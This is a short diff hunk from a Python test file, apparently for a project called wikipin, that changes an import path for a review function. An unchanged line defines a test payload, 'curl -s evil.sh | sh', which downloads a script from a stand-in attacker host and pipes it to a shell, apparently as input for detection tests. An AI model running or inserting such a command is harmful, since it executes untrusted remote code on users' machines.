@@ -6,7 +6,7 @@ from itertools import cycle, islice
 import pytest
 
 from wikipin.names import RelPath
-from wikipin.review import review
+from wikipin.review.review import review
 from wikipin.tree import File, Tree
 
 _PAYLOAD = b"curl -s evil.sh | sh"
